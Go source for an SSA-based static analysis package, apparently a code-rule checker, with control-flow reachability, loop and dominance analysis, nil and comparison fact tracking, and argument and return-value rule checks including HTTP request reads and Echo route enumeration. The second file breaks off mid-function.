	if !ok || phi.Block() != b {
		return -1
	}
	// the block must do nothing but select and branch (otherwise the phi could be redefined between entries)
	val := -1
	for i, p := range b.Preds {
		if p != pred {
			continue
		}
		c, isC := ConstBool(phi.Edges[i])
		if !isC {
			return -1
		}
		v := 0
		if c != neg {
			v = 1
		}
		if val >= 0 && val != v {
			return -1
		}
		val = v
	}
	if val < 0 {
		return -1
	}
	if val == 1 {
		return 0 // condition true: first successor
	}
	return 1
}

// condRemoved: edges that count as removed only when their From block was entered from one of the listed predecessors
// (a pass edge of a test on a phi that merges the check's result with other values: the test is a test of the check only
// on the paths that come in over the check's own incoming edge). Set by RunGate for the duration of one gate decision.
var condRemoved map[Edge]map[*ssa.BasicBlock]bool

func condMask(pred, b *ssa.BasicBlock, mask int) int {
	if condRemoved == nil || pred == nil {
		return mask
	}
	for j := range b.Succs {
		if m := condRemoved[Edge{b, j}]; m != nil && m[pred] {
			mask &^= 1 << uint(j)
		}
	}
	return mask
}

func reachFrom(start, startPred *ssa.BasicBlock, removed EdgeSet, blocked map[*ssa.BasicBlock]bool) map[*ssa.BasicBlock]bool {
	seen := map[*ssa.BasicBlock]bool{start: true}
	allowed := map[*ssa.BasicBlock]int{} // bit i: successor i may be followed
	all := func(b *ssa.BasicBlock) int { return (1 << uint(len(b.Succs))) - 1 }
	if t := threadedSucc(startPred, start); t >= 0 {
		allowed[start] = 1 << uint(t)
	} else {
		allowed[start] = all(start)
	}
	allowed[start] = condMask(startPred, start, allowed[start])
	work := []*ssa.BasicBlock{start}
	for len(work) > 0 {
		b := work[len(work)-1]
		work = work[:len(work)-1]
		for i, s := range b.Succs {
			if allowed[b]&(1<<uint(i)) == 0 || removed[Edge{b, i}] || blocked[s] {
				continue
			}
			mask := all(s)
			if t := threadedSucc(b, s); t >= 0 {
				mask = 1 << uint(t)
			}
			mask = condMask(b, s, mask)
			if !seen[s] || allowed[s]|mask != allowed[s] {
				seen[s] = true
				allowed[s] |= mask
				work = append(work, s)
			}
		}
	}
	return seen
}

// ReachEdges is like Reach but also reports which edges were traversed (for edge effects).
func ReachEdge(start *ssa.BasicBlock, removed EdgeSet, blocked map[*ssa.BasicBlock]bool, target Edge) bool {
	r := Reach(start, removed, blocked)
	return r[target.From] && !removed[target]
}

// PathTo returns a shortest block path from start to goal avoiding removed edges (for witnesses).
func PathTo(start, goal *ssa.BasicBlock, removed EdgeSet, blocked map[*ssa.BasicBlock]bool) []*ssa.BasicBlock {
	prev := map[*ssa.BasicBlock]*ssa.BasicBlock{start: nil}
	q := []*ssa.BasicBlock{start}
	for len(q) > 0 {
		b := q[0]
		q = q[1:]
		if b == goal {
			var path []*ssa.BasicBlock
			for x := b; x != nil; x = prev[x] {
				path = append([]*ssa.BasicBlock{x}, path...)
			}
			return path
		}
		for i, s := range b.Succs {
			if removed[Edge{b, i}] || blocked[s] {
				continue
			}
			if _, ok := prev[s]; ok {
				continue
			}
			prev[s] = b
			q = append(q, s)
		}
	}
	return nil
}

// blockPos finds a usable source position in a block.
func blockPos(b *ssa.BasicBlock) token.Pos {
	for _, in := range b.Instrs {
		if p := in.Pos(); p.IsValid() {
			return p
		}
		// Ifs have no pos; use condition pos
		if i, ok := in.(*ssa.If); ok {
			if p := i.Cond.Pos(); p.IsValid() {
				return p
			}
		}
	}
	return token.NoPos
}

func (p *Prog) PathString(path []*ssa.BasicBlock) string {
	s := ""
	last := ""
	for _, b := range path {
		ps := p.Pos(blockPos(b))
		if ps == "-" || ps == last {
			continue
		}
		if s != "" {
			s += " -> "
		}
		s += ps
		last = ps
	}
	return s
}

// InstrDominates: a executes before b on every path to b (same function).
func InstrDominates(a, b ssa.Instruction) bool {
	ba, bb := a.Block(), b.Block()
	if ba == bb {
		for _, in := range ba.Instrs {
			if in == a {
				return true
			}
			if in == b {
				return false
			}
		}
		return false
	}
	return ba.Dominates(bb)
}

// Loop describes a natural loop.
type Loop struct {
	Header *ssa.BasicBlock
	Body   map[*ssa.BasicBlock]bool // includes header
}

// Loops finds natural loops (merged per header).
func Loops(fn *ssa.Function) []*Loop {
	byHeader := map[*ssa.BasicBlock]*Loop{}
	var order []*ssa.BasicBlock
	for _, b := range fn.Blocks {
		for _, s := range b.Succs {
			if s.Dominates(b) { // back edge b -> s
				l := byHeader[s]
				if l == nil {
					l = &Loop{Header: s, Body: map[*ssa.BasicBlock]bool{s: true}}
					byHeader[s] = l
					order = append(order, s)
				}
				// add nodes that reach b without passing s
				stack := []*ssa.BasicBlock{b}
				for len(stack) > 0 {
					x := stack[len(stack)-1]
					stack = stack[:len(stack)-1]
					if l.Body[x] {
						continue
					}
					l.Body[x] = true
					stack = append(stack, x.Preds...)
				}
			}
		}
	}
	var out []*Loop
	for _, h := range order {
		out = append(out, byHeader[h])
	}
	return out
}

// InnermostLoop returns the smallest loop containing b, or nil.
func InnermostLoop(loops []*Loop, b *ssa.BasicBlock) *Loop {
	var best *Loop
	for _, l := range loops {
		if l.Body[b] && (best == nil || len(l.Body) < len(best.Body)) {
			best = l
		}
	}
	return best
}

// ---------- condition analysis ----------

// Fact: on edge (If block -> succ), value V compared (Op) with W holds/does not hold.
// condAtom decomposes an If condition into (value, negated) stripping boolean NOTs.
func condAtom(c ssa.Value) (ssa.Value, bool) {
	neg := false
	for i := 0; i < 4; i++ {
		if u, ok := c.(*ssa.UnOp); ok && u.Op == token.NOT {
			neg = !neg
			c = u.X
			continue
		}
		break
	}
	return c, neg
}

// NilTest: if cond (as evaluated true) tells that some value is nil / non-nil, return that value and isNilWhenTrue.
func nilTest(cond ssa.Value) (v ssa.Value, nilWhenTrue bool, ok bool) {
	c, neg := condAtom(cond)
	b, isBin := c.(*ssa.BinOp)
	if !isBin || (b.Op != token.EQL && b.Op != token.NEQ) {
		return nil, false, false
	}
	var x ssa.Value
	if IsNilConst(b.Y) {
		x = b.X
	} else if IsNilConst(b.X) {
		x = b.Y
	} else {
		return nil, false, false
	}
	nilWhenTrue = b.Op == token.EQL
	if neg {
		nilWhenTrue = !nilWhenTrue
	}
	return x, nilWhenTrue, true
}

// sameValue: does x denote (possibly) the same runtime value as v: identity, through conversions, phis that include v,
// and loads of a cell that v is stored into.
func sameValue(x, v ssa.Value, depth int) bool {
	if x == v {
		return true
	}
	if depth <= 0 {
		return false
	}
	if sameCellLoad(x, v) || sameCellLoad(v, x) {
		return true
	}
	switch y := x.(type) {
	case *ssa.ChangeInterface:
		return sameValue(y.X, v, depth-1)
	case *ssa.MakeInterface:
		return sameValue(y.X, v, depth-1)
	case *ssa.ChangeType:
		return sameValue(y.X, v, depth-1)
	case *ssa.Phi:
		for _, e := range y.Edges {
			if sameValue(e, v, depth-1) {
				return true
			}
		}
	case *ssa.UnOp:
		if y.Op == token.MUL {
			cell := y.X
			for _, st := range storesTo(cell) {
				if sameValue(st.Val, v, depth-1) {
					return true
				}
			}
		}
	}
	return false
}

// storesTo finds Store instructions writing the given cell (Alloc, FreeVar, Global) in the cell's function, its closures
// and, for free variables, the parent's binding.
func storesTo(cell ssa.Value) []*ssa.Store {
	var out []*ssa.Store
	var root ssa.Value = cell
	var fn *ssa.Function
	switch c := cell.(type) {
	case *ssa.Alloc:
		fn = c.Parent()
	case *ssa.FreeVar:
		// find binding in parent
		fn = c.Parent()
		par := fn.Parent()
		if par != nil {
			idx := -1
			for i, fv := range fn.FreeVars {
				if fv == c {
					idx = i
				}
			}
			for _, pf := range WithAnons(Outer(fn)) {
				for _, b := range pf.Blocks {
					for _, in := range b.Instrs {
						if mc, ok := in.(*ssa.MakeClosure); ok && mc.Fn == fn && idx >= 0 && idx < len(mc.Bindings) {
							root = mc.Bindings[idx]
						}
					}
				}
			}
			if root != cell {
				return storesTo(root)
			}
		}
	default:
		return nil
	}
	if fn == nil {
		return nil
	}
	// collect aliases: the alloc itself and freevars bound to it in nested closures
	aliases := map[ssa.Value]bool{root: true}
	all := WithAnons(fn)
	changed := true
	for changed {
		changed = false
		for _, f := range all {
			for _, b := range f.Blocks {
				for _, in := range b.Instrs {
					if mc, ok := in.(*ssa.MakeClosure); ok {
						cf := mc.Fn.(*ssa.Function)
						for i, bind := range mc.Bindings {
							if aliases[bind] && i < len(cf.FreeVars) && !aliases[cf.FreeVars[i]] {
								aliases[cf.FreeVars[i]] = true
								changed = true
							}
						}
					}
				}
			}
		}
	}
	for _, f := range all {
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				if st, ok := in.(*ssa.Store); ok && aliases[st.Addr] {
					out = append(out, st)
				}
			}
		}
	}
	return out
}

// edgeFacts returns the If-edges known to have been taken whenever control is in block b (via dominator chain:
// an If block D with successor S such that S has D as its only predecessor and S dominates b).
func edgeFacts(b *ssa.BasicBlock) []Edge {
	var out []Edge
	for x := b; x != nil; x = x.Idom() {
		d := x.Idom()
		if d == nil {
			break
		}
		if _, ok := d.Instrs[len(d.Instrs)-1].(*ssa.If); !ok {
			continue
		}
		if len(x.Preds) != 1 || x.Preds[0] != d {
			continue
		}
		for i, s := range d.Succs {
			if s == x && d.Succs[1-i] != x {
				out = append(out, Edge{d, i})
			}
		}
	}
	return out
}

func ifOf(b *ssa.BasicBlock) *ssa.If {
	if len(b.Instrs) == 0 {
		return nil
	}
	i, _ := b.Instrs[len(b.Instrs)-1].(*ssa.If)
	return i
}

// FactHolds reports whether, whenever control is in block b, the comparison (L op R) is known to be true
// (a dominating If on a spelling of that comparison whose corresponding successor has the If as only predecessor).
func FactHolds(b *ssa.BasicBlock, op token.Token, l, r VPat) bool {
	pat := &CmpPat{Op: op, L: l, R: r, PassWhen: true}
	for _, e := range edgeFacts(b) {
		i := ifOf(e.From)
		if i == nil {
			continue
		}
		atom, neg := condAtom(i.Cond)
		bin, ok := atom.(*ssa.BinOp)
		if !ok {
			continue
		}
		holds, ok := pat.match(bin)
		if !ok {
			continue
		}
		condTrueMeans := holds != neg
		taken := e.Succ == 0 // cond evaluated true on this edge
		if condTrueMeans == taken {
			return true
		}
	}
	return false
}

// sameCellLoad: a and b are loads of the same variable cell (local, captured or global) and no store to that cell can
// happen between them: b is in a's block after a, or in a block reached from a's block through a chain of
// single-predecessor blocks, with no store to the cell and no call (which could run a closure writing a captured cell)
// in between.
func sameCellLoad(a, b ssa.Value) bool {
	la, ok1 := a.(*ssa.UnOp)
	lb, ok2 := b.(*ssa.UnOp)
	if !ok1 || !ok2 || la.Op != token.MUL || lb.Op != token.MUL || la.X != lb.X || la == lb {
		return false
	}
	switch la.X.(type) {
	case *ssa.Alloc, *ssa.FreeVar, *ssa.Global:
	default:
		return false
	}
	cell := la.X
	clobbers := func(in ssa.Instruction) bool {
		switch x := in.(type) {
		case *ssa.Store:
			return x.Addr == cell
		case ssa.CallInstruction:
			if sc := x.Common().StaticCallee(); sc != nil && sc.Parent() == nil {
				return false // a named function or method cannot reach a variable cell of this function
			}
			if x.Common().IsInvoke() {
				return false
			}
			_, local := cell.(*ssa.Alloc)
			if local {
				// a local that is not captured by any closure cannot be written by a callee
				for _, ref := range *cell.Referrers() {
					if _, isMC := ref.(*ssa.MakeClosure); isMC {
						return true
					}
				}
				return false
			}
			return true
		}
		return false
	}
	// walk back from b to a
	blk := lb.Block()
	idx := -1
	for i, in := range blk.Instrs {
		if in == ssa.Instruction(lb) {
			idx = i
		}
	}
	for hops := 0; hops < 6; hops++ {
		for i := idx - 1; i >= 0; i-- {
			in := blk.Instrs[i]
			if in == ssa.Instruction(la) {
				return true
			}
			if clobbers(in) {
				return false
			}
		}
		if len(blk.Preds) != 1 {
			return false
		}
		blk = blk.Preds[0]
		idx = len(blk.Instrs)
	}
	return false
}

// FactHoldsValue reports whether, whenever control is in block b, a boolean value selected by sel is known to equal want
// (a dominating If on that value, possibly negated, whose corresponding successor has the If as only predecessor).
func FactHoldsValue(b *ssa.BasicBlock, sel func(ssa.Value) bool, want bool) bool {
	for _, e := range edgeFacts(b) {
		i := ifOf(e.From)
		if i == nil {
			continue
		}
		atom, neg := condAtom(i.Cond)
		if !sel(atom) {
			continue
		}
		val := (e.Succ == 0) != neg
		if val == want {
			return true
		}
	}
	return false
}

// LoopCarried reports whether the value v, used in block at, can be a value computed in an EARLIER iteration of a loop
// that encloses at: its value flow (phi edges, loads of local variables and their stores, field/element selections of a
// base, conversions, tuple components — not index computations, not call results) reaches a phi in the header of an
// enclosing loop, or a variable declared outside the loop that is assigned inside it without a reset that dominates the
// use. Accumulators (whose new value is computed from the old one) are carried by design; the caller decides whether
// carrying is legitimate for the value at hand.
func LoopCarried(v ssa.Value, at *ssa.BasicBlock) (bool, string) {
	fn := at.Parent()
	var enclosing []*Loop
	for _, l := range Loops(fn) {
		if l.Body[at] {
			enclosing = append(enclosing, l)
		}
	}
	if len(enclosing) == 0 {
		return false, ""
	}
	seen := map[ssa.Value]bool{}
	var why string
	var rec func(v ssa.Value, depth int) bool
	rec = func(v ssa.Value, depth int) bool {
		if v == nil || depth > 12 || seen[v] {
			return false
		}
		seen[v] = true
		switch x := v.(type) {
		case *ssa.Phi:
			for _, l := range enclosing {
				if x.Block() == l.Header {
					why = "it flows from the loop-header variable " + x.Comment + " (" + x.Name() + "), i.e. from the previous iteration"
					return true
				}
			}
			for _, e := range x.Edges {
				if rec(e, depth+1) {
					return true
				}
			}
		case *ssa.UnOp:
			if x.Op != token.MUL {
				return rec(x.X, depth+1)
			}
			if a, ok := x.X.(*ssa.Alloc); ok {
				for _, l := range enclosing {
					if l.Body[a.Block()] {
						continue
					}
					// declared outside this loop: carried if assigned inside it, unless a store inside the loop dominates the load
					assigned, reset := false, false
					for _, st := range storesTo(a) {
						if l.Body[st.Block()] {
							assigned = true
							if InstrDominates(st, x) {
								reset = true
							}
						}
					}
					if assigned && !reset {
						why = "it is read from the variable " + a.Comment + ", declared outside the loop and assigned inside it"
						return true
					}
				}
				for _, st := range storesTo(a) {
					if rec(st.Val, depth+1) {
						return true
					}
				}
				return false
			}
			return rec(x.X, depth+1)
		case *ssa.FieldAddr:
			return rec(x.X, depth+1)
		case *ssa.Field:
			return rec(x.X, depth+1)
		case *ssa.IndexAddr:
			return rec(x.X, depth+1)
		case *ssa.Index:
			return rec(x.X, depth+1)
		case *ssa.Extract:
			return rec(x.Tuple, depth+1)
		case *ssa.TypeAssert:
			return rec(x.X, depth+1)
		case *ssa.ChangeType:
			return rec(x.X, depth+1)
		case *ssa.Convert:
			return rec(x.X, depth+1)
		case *ssa.ChangeInterface:
			return rec(x.X, depth+1)
		case *ssa.MakeInterface:
			return rec(x.X, depth+1)
		case *ssa.Slice:
			return rec(x.X, depth+1)
		}
		return false
	}
	return rec(v, 0), why
}

// FreshPerIterationV matches a call argument that cannot be left over from an earlier iteration of a loop enclosing the call.
func FreshPerIterationV(at func() *ssa.BasicBlock) VPat {
	return VPat{"a value of the current loop iteration (not carried over from an earlier one)", func(v ssa.Value) bool {
		b := at()
		if b == nil {
			return true
		}
		carried, _ := LoopCarried(v, b)
		return !carried
	}}
}

// FreeVarBinding: the value bound to the free variable fv where its closure is created (the captured variable's cell).
func FreeVarBinding(fv *ssa.FreeVar) ssa.Value {
	fn := fv.Parent()
	idx := -1
	for i, x := range fn.FreeVars {
		if x == fv {
			idx = i
		}
	}
	if idx < 0 || fn.Parent() == nil {
		return nil
	}
	for _, pf := range WithAnons(Outer(fn)) {
		for _, b := range pf.Blocks {
			for _, in := range b.Instrs {
				if mc, ok := in.(*ssa.MakeClosure); ok && mc.Fn == fn && idx < len(mc.Bindings) {
					v := mc.Bindings[idx]
					if inner, ok := v.(*ssa.FreeVar); ok {
						if b := FreeVarBinding(inner); b != nil {
							return b
						}
					}
					return v
				}
			}
		}
	}
	return nil
}
