package an

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// ReturnsOnly: every return of fn yields, at result index idx (-1 = last), a value produced by one of the allowed
// callees (looking through conversions and phis), or — if allowNil — the nil constant.
func (r *Report) ReturnsOnly(id string, fn *ssa.Function, idx int, allowNil bool, allowed ...Callee) {
	var d []string
	for _, a := range allowed {
		d = append(d, a.Desc)
	}
	rule := "ARG: every return value comes from one of [" + strings.Join(d, ", ") + "]"
	if fn == nil {
		r.Lost(id, rule, "anchored function not found")
		return
	}
	key := id + " @ " + r.P.FuncName(fn)
	var bad []string
	n := 0
	var ok func(v ssa.Value, depth int) bool
	ok = func(v ssa.Value, depth int) bool {
		v = stripConv(v)
		if depth > 4 {
			return false
		}
		switch x := v.(type) {
		case *ssa.Const:
			return allowNil && x.IsNil()
		case *ssa.Call:
			for _, a := range allowed {
				if a.M(x.Common()) {
					return true
				}
			}
		case *ssa.Phi:
			for _, e := range x.Edges {
				if !ok(e, depth+1) {
					return false
				}
			}
			return true
		case *ssa.Extract:
			return ok(x.Tuple, depth+1)
		case *ssa.UnOp:
			if x.Op == token.MUL {
				sts := storesTo(x.X)
				if len(sts) == 0 {
					return false
				}
				for _, st := range sts {
					if !ok(st.Val, depth+1) {
						return false
					}
				}
				return true
			}
		}
		return false
	}
	for _, b := range fn.Blocks {
		ret, isRet := b.Instrs[len(b.Instrs)-1].(*ssa.Return)
		if !isRet {
			continue
		}
		i := idx
		if i < 0 {
			i = len(ret.Results) - 1
		}
		if i >= len(ret.Results) {
			continue
		}
		n++
		if !ok(ret.Results[i], 0) {
			bad = append(bad, r.P.Pos(ret.Pos()))
		}
	}
	r.Sites += n
	if n == 0 {
		r.Lost(key, rule, "no returns found")
		return
	}
	if len(bad) > 0 {
		sort.Strings(bad)
		r.Bad(key, rule, bad[0], "returns with another value source: "+strings.Join(bad, ", "))
		return
	}
	r.OK(key, rule, r.P.Pos(fn.Pos()), fmt.Sprintf("%d returns checked", n), true)
}

// RequestReads lists, for fn and the module functions it calls (transitively, bounded), every read of a field of
// net/http.Request or net/url.URL and every method call on *http.Request, *url.URL or http.Header.
// Each item is rendered as "Request.URL", "URL.Path", "Request.Header.Get", ...
func (p *Prog) RequestReads(fn *ssa.Function, depth int) map[string][]Site {
	out := map[string][]Site{}
	seen := map[*ssa.Function]bool{}
	var visit func(f *ssa.Function, d int)
	visit = func(f *ssa.Function, d int) {
		if f == nil || seen[f] || f.Blocks == nil {
			return
		}
		seen[f] = true
		for _, a := range f.AnonFuncs {
			visit(a, d)
		}
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				switch x := in.(type) {
				case *ssa.FieldAddr:
					if name := reqField(x.X.Type(), x.Field); name != "" {
						out[name] = append(out[name], Site{Fn: f, Instr: in, Pos: in.Pos()})
					}
				case *ssa.Field:
					if name := reqField(x.X.Type(), x.Field); name != "" {
						out[name] = append(out[name], Site{Fn: f, Instr: in, Pos: in.Pos()})
					}
				}
				if ci, ok := in.(ssa.CallInstruction); ok {
					cc := ci.Common()
					if cf := calleeFunc(cc); cf != nil {
						if sig := cf.Type().(*types.Signature); sig.Recv() != nil {
							if n := recvNamed(sig.Recv().Type()); n != nil && n.Obj().Pkg() != nil {
								pk := n.Obj().Pkg().Path()
								if (pk == "net/http" && (n.Obj().Name() == "Request" || n.Obj().Name() == "Header")) || (pk == "net/url" && n.Obj().Name() == "URL") {
									name := n.Obj().Name() + "." + cf.Name() + "()"
									out[name] = append(out[name], Site{Fn: f, Instr: in, Pos: in.Pos()})
								}
							}
						}
					}
					if d > 0 {
						if callee := cc.StaticCallee(); callee != nil && p.InModule(callee) {
							visit(callee, d-1)
						}
					}
				}
			}
		}
	}
	visit(fn, depth)
	return out
}

func reqField(t types.Type, idx int) string {
	if p, ok := t.Underlying().(*types.Pointer); ok {
		t = p.Elem()
	}
	n, ok := t.(*types.Named)
	if !ok || n.Obj().Pkg() == nil {
		return ""
	}
	pk := n.Obj().Pkg().Path()
	if !((pk == "net/http" && n.Obj().Name() == "Request") || (pk == "net/url" && n.Obj().Name() == "URL")) {
		return ""
	}
	st, ok := n.Underlying().(*types.Struct)
	if !ok || idx >= st.NumFields() {
		return ""
	}
	return n.Obj().Name() + "." + st.Field(idx).Name()
}

// ClosureArgs returns the anonymous functions (closures) passed as the n-th declared argument to calls of c within fn.
func ClosureArgs(fn *ssa.Function, c Callee, n int) []*ssa.Function {
	var out []*ssa.Function
	for _, ci := range CallsDeep(fn, c) {
		a := CallArg(ci.Common(), n)
		if a == nil {
			continue
		}
		out = append(out, closuresOf(a, 0)...)
	}
	return out
}

func closuresOf(v ssa.Value, depth int) []*ssa.Function {
	if depth > 4 {
		return nil
	}
	v = stripConv(v)
	switch x := v.(type) {
	case *ssa.MakeClosure:
		if f, ok := x.Fn.(*ssa.Function); ok {
			return []*ssa.Function{f}
		}
	case *ssa.Function:
		return []*ssa.Function{x}
	case *ssa.Phi:
		var out []*ssa.Function
		for _, e := range x.Edges {
			out = append(out, closuresOf(e, depth+1)...)
		}
		return out
	case *ssa.UnOp:
		if x.Op == token.MUL {
			var out []*ssa.Function
			for _, st := range storesTo(x.X) {
				out = append(out, closuresOf(st.Val, depth+1)...)
			}
			return out
		}
	}
	return nil
}

// ResolveString tries to evaluate a string-typed SSA value to a constant: constants, concatenations, and parameters
// for which every module call site passes the same constant.
func (p *Prog) ResolveString(v ssa.Value, depth int) (string, bool) {
	if depth > 5 {
		return "", false
	}
	v = stripConv(v)
	switch x := v.(type) {
	case *ssa.Const:
		return ConstString(x)
	case *ssa.BinOp:
		if x.Op == token.ADD {
			a, ok1 := p.ResolveString(x.X, depth+1)
			b, ok2 := p.ResolveString(x.Y, depth+1)
			return a + b, ok1 && ok2
		}
	case *ssa.Parameter:
		fn := x.Parent()
		idx := -1
		for i, prm := range fn.Params {
			if prm == x {
				idx = i
			}
		}
		if idx < 0 {
			return "", false
		}
		val, have := "", false
		for _, s := range p.CallSites(SSAFn(fn, fn.Name()), false) {
			args := s.Instr.(ssa.CallInstruction).Common().Args
			if idx >= len(args) {
				return "", false
			}
			sv, ok := p.ResolveString(args[idx], depth+1)
			if !ok || (have && sv != val) {
				return "", false
			}
			val, have = sv, true
		}
		return val, have
	}
	return "", false
}

// Route is one registered HTTP route.
type Route struct {
	Path string
	Site Site
	OK   bool // path resolved to a constant
}

var routeMethods = map[string]int{"GET": 0, "POST": 0, "PUT": 0, "DELETE": 0, "PATCH": 0, "HEAD": 0, "OPTIONS": 0, "CONNECT": 0, "TRACE": 0, "Any": 0, "Add": 1, "Match": 1, "Group": 0, "Static": 0, "File": 0}

// Routes enumerates route registrations: calls of GET/POST/.../Add on interfaces named EchoRouter or EchoServer and on *echo.Echo / *echo.Group.
func (p *Prog) Routes() []Route {
	var out []Route
	p.EachInstr(func(fn *ssa.Function, in ssa.Instruction) {
		ci, ok := in.(ssa.CallInstruction)
		if !ok {
			return
		}
		cc := ci.Common()
		cf := calleeFunc(cc)
		if cf == nil {
			return
		}
		argIdx, isRoute := routeMethods[cf.Name()]
		if !isRoute {
			return
		}
		sig := cf.Type().(*types.Signature)
		if sig.Recv() == nil {
			return
		}
		var recvName, recvPkg string
		if cc.IsInvoke() {
			if n := recvNamed(cc.Value.Type()); n != nil {
				recvName = n.Obj().Name()
			}
		}
		if n := recvNamed(sig.Recv().Type()); n != nil {
			if recvName == "" {
				recvName = n.Obj().Name()
			}
			if n.Obj().Pkg() != nil {
				recvPkg = n.Obj().Pkg().Path()
			}
		}
		isRouter := recvName == "EchoRouter" || recvName == "EchoServer" || (recvPkg == "github.com/labstack/echo/v4" && (recvName == "Echo" || recvName == "Group")) || recvName == "MultiEcho" || recvName == "echoAdapter"
		if !isRouter {
			return
		}
		a := CallArg(cc, argIdx)
		if a == nil {
			return
		}
		if t, ok := a.Type().Underlying().(*types.Basic); !ok || t.Kind() != types.String {
			return
		}
		path, resolved := p.ResolveString(a, 0)
		out = append(out, Route{Path: path, Site: Site{Fn: fn, Instr: in, Pos: in.Pos()}, OK: resolved})
	})
	return out
}

// ArgIs: every call of callee in fn passes, at argument index idx (receiver excluded for methods and interface calls),
// a value matching pat. min is the expected minimum number of call sites.
func (r *Report) ArgIs(id string, fn *ssa.Function, callee Callee, idx int, pat VPat, min int) {
	rule := fmt.Sprintf("ARG: argument %d of every call of %s is %s", idx, callee.Desc, pat.Desc)
	if fn == nil {
		r.Lost(id, rule, "anchored function not found")
		return
	}
	key := id + " @ " + r.P.FuncName(fn)
	calls := r.P.CallsNear(fn, callee)
	r.Sites += len(calls)
	if min == 0 {
		min = 1
	}
	if len(calls) < min {
		r.Lost(key, rule, fmt.Sprintf("%d call site(s), expected >= %d", len(calls), min))
		return
	}
	for _, c := range calls {
		a := CallArg(c.Common(), idx)
		undo := r.P.BindHelperParams(fn, c)
		ok := a != nil && pat.M(a)
		desc := AccessPath(a, 0)
		undo()
		if !ok {
			r.Bad(key, rule, r.P.Pos(c.Pos()), "argument is "+desc)
			return
		}
	}
	r.OK(key, rule, r.P.Pos(fn.Pos()), fmt.Sprintf("%d call site(s)", len(calls)), true)
}

// ArgIsEverywhere: like ArgIs, over every production call site of callee in the module.
func (r *Report) ArgIsEverywhere(id string, callee Callee, idx int, pat VPat, min int) {
	rule := fmt.Sprintf("ARG: argument %d of every call of %s (anywhere in the module) is %s", idx, callee.Desc, pat.Desc)
	n := 0
	for _, s := range r.P.CallSites(callee, false) {
		if r.P.FileClass(r.P.FuncPos(s.Fn)) != "prod" {
			continue
		}
		n++
		ci, ok := s.Instr.(ssa.CallInstruction)
		if !ok {
			continue
		}
		a := CallArg(ci.Common(), idx)
		if a == nil || !pat.M(a) {
			r.Bad(id+" @ "+r.P.FuncName(s.Fn), rule, r.P.Pos(s.Pos), "argument is "+AccessPath(a, 0))
			return
		}
	}
	r.Sites += n
	if n < min {
		r.Lost(id, rule, fmt.Sprintf("%d call site(s), expected >= %d", n, min))
		return
	}
	r.OK(id, rule, "", fmt.Sprintf("%d call site(s)", n), true)
}

// CallsNear: the calls of callee in fn and its closures; when there are none, the calls in the module functions fn calls
// statically (two levels): an ARG rule keeps its anchor when the code that contains the call is extracted into a helper.
func (p *Prog) CallsNear(fn *ssa.Function, callee Callee) []ssa.CallInstruction {
	if fn == nil {
		return nil
	}
	if cs := CallsDeep(fn, callee); len(cs) > 0 {
		return cs
	}
	seen := map[*ssa.Function]bool{fn: true}
	level := []*ssa.Function{fn}
	for depth := 0; depth < 2; depth++ {
		var next []*ssa.Function
		var found []ssa.CallInstruction
		for _, f := range level {
			for _, g := range WithAnons(f) {
				for _, b := range g.Blocks {
					for _, in := range b.Instrs {
						ci, ok := in.(ssa.CallInstruction)
						if !ok {
							continue
						}
						h := ci.Common().StaticCallee()
						if h == nil || seen[h] || len(h.Blocks) == 0 || !p.InModule(h) || h.Parent() != nil {
							continue
						}
						// only helpers of the same package: a rule about fn's own logic
						if h.Pkg == nil || fn.Pkg == nil || h.Pkg != fn.Pkg {
							continue
						}
						seen[h] = true
						next = append(next, h)
						found = append(found, CallsDeep(h, callee)...)
					}
				}
			}
		}
		if len(found) > 0 {
			return found
		}
		level = next
	}
	return nil
}

// CallsNearAll: the calls of callee in fn and its closures AND those in the same-package helpers fn calls statically (two
// levels): for rules that must hold for every such call, wherever a refactoring put it.
func (p *Prog) CallsNearAll(fn *ssa.Function, callee Callee) []ssa.CallInstruction {
	if fn == nil {
		return nil
	}
	out := CallsDeep(fn, callee)
	seen := map[*ssa.Function]bool{fn: true}
	level := []*ssa.Function{fn}
	for depth := 0; depth < 2; depth++ {
		var next []*ssa.Function
		for _, f := range level {
			for _, g := range WithAnons(f) {
				for _, b := range g.Blocks {
					for _, in := range b.Instrs {
						ci, ok := in.(ssa.CallInstruction)
						if !ok {
							continue
						}
						h := ci.Common().StaticCallee()
						if h == nil || seen[h] || len(h.Blocks) == 0 || !p.InModule(h) || h.Parent() != nil || h.Pkg == nil || fn.Pkg == nil || h.Pkg != fn.Pkg {
							continue
						}
						seen[h] = true
						next = append(next, h)
						out = append(out, CallsDeep(h, callee)...)
					}
				}
			}
		}
		level = next
	}
	return out
}

// ArgIsAll: like ArgIs, over the calls in fn and in the same-package helpers it calls (CallsNearAll).
func (r *Report) ArgIsAll(id string, fn *ssa.Function, callee Callee, idx int, pat VPat, min int) {
	rule := fmt.Sprintf("ARG: argument %d of every call of %s — in the function and in the helpers of its package that it calls — is %s", idx, callee.Desc, pat.Desc)
	if fn == nil {
		r.Lost(id, rule, "anchored function not found")
		return
	}
	key := id + " @ " + r.P.FuncName(fn)
	calls := r.P.CallsNearAll(fn, callee)
	r.Sites += len(calls)
	if min == 0 {
		min = 1
	}
	if len(calls) < min {
		r.Lost(key, rule, fmt.Sprintf("%d call site(s), expected >= %d", len(calls), min))
		return
	}
	for _, c := range calls {
		a := CallArg(c.Common(), idx)
		undo := r.P.BindHelperParams(fn, c)
		ok := a != nil && pat.M(a)
		desc := AccessPath(a, 0)
		undo()
		if !ok {
			r.Bad(key, rule, r.P.Pos(c.Pos()), "argument is "+desc)
			return
		}
	}
	r.OK(key, rule, r.P.Pos(fn.Pos()), fmt.Sprintf("%d call site(s)", len(calls)), true)
}

// BindHelperParams: when call instruction ci sits in a helper h that caller calls exactly once (directly), make h's
// parameters stand for the arguments of that call (for value patterns and access paths); returns the undo function.
func (p *Prog) BindHelperParams(caller *ssa.Function, ci ssa.CallInstruction) func() {
	h := Outer(ci.Parent())
	if caller == nil || h == Outer(caller) {
		return func() {}
	}
	var site *ssa.Call
	n := 0
	for _, f := range WithAnons(caller) {
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				if c, ok := in.(*ssa.Call); ok && c.Common().StaticCallee() == h {
					site = c
					n++
				}
			}
		}
	}
	if n != 1 || len(h.Params) != len(site.Common().Args) {
		return func() {}
	}
	var bound []*ssa.Parameter
	for i, prm := range h.Params {
		if _, dup := paramSubst[prm]; !dup {
			paramSubst[prm] = site.Common().Args[i]
			bound = append(bound, prm)
		}
	}
	return func() {
		for _, prm := range bound {
